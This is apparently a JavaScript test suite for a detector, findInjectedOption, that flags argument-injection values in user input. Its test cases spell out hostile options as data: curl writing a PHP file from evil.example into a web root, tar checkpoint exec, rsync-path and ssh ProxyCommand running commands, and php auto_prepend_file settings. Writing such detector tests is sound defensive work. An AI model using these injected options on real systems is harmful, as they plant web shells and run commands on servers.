import { test } from 'node:test';
import assert from 'node:assert/strict';
import { findInjectedOption } from './options.js';

test('options that write a file need a path, a URL or a script as their value', () => {
  assert.equal(findInjectedOption('--output=/var/www/html/x.php http://evil.example/x.txt'), '--output=/var/www/html/x.php http://evil.example/x.txt');
  assert.ok(findInjectedOption('--output-document /tmp/x') !== undefined);
  assert.ok(findInjectedOption('--output=shell.php') !== undefined);
  assert.ok(findInjectedOption('--config=http://evil.example/curlrc') !== undefined);
  assert.equal(findInjectedOption('--output=json'), undefined);
  assert.equal(findInjectedOption('--output json'), undefined);
  assert.equal(findInjectedOption('--output-dir=./build'), undefined);
  assert.equal(findInjectedOption('--output'), undefined);
});

test('options that run a command count with any value', () => {
  assert.ok(findInjectedOption('--checkpoint-action=exec=sh x.sh') !== undefined);
  assert.ok(findInjectedOption('--rsync-path="sh -c id"') !== undefined);
  assert.ok(findInjectedOption('-exec id') !== undefined);
  assert.equal(findInjectedOption('--exec'), undefined);
  assert.equal(findInjectedOption('-exec'), undefined);
});

test('ssh -o and php -d settings are read in both spellings', () => {
  assert.ok(findInjectedOption('-oProxyCommand=id') !== undefined);
  assert.ok(findInjectedOption('-o ProxyCommand=id') !== undefined);
  assert.ok(findInjectedOption('-o LocalCommand=id') !== undefined);
  assert.equal(findInjectedOption('-o StrictHostKeyChecking=no'), undefined);
  assert.equal(findInjectedOption('-oProxyCommand='), undefined);
  assert.ok(findInjectedOption('-d auto_prepend_file=php://input') !== undefined);
  assert.ok(findInjectedOption('-dallow_url_include=1') !== undefined);
  assert.equal(findInjectedOption('-d display_errors=1'), undefined);
});

test('an option counts at the start or after one first token that is not a word', () => {
  assert.ok(findInjectedOption('  "--output=/tmp/x.php"') !== undefined);
  assert.ok(findInjectedOption('http://evil.example/a --output=/var/www/a.php') !== undefined);
  assert.equal(findInjectedOption('Use --output=/tmp/out.txt to save'), undefined);
  assert.equal(findInjectedOption('a b --output=/tmp/x.php'), undefined);
});

test('long runs of dashes and options complete', () => {
  for (const input of ['-'.repeat(100_000), ' -'.repeat(50_000), '--output='.repeat(20_000), `x ${'-o '.repeat(30_000)}`, `--output=${'/'.repeat(100_000)}`]) {
    findInjectedOption(input);
  }
});
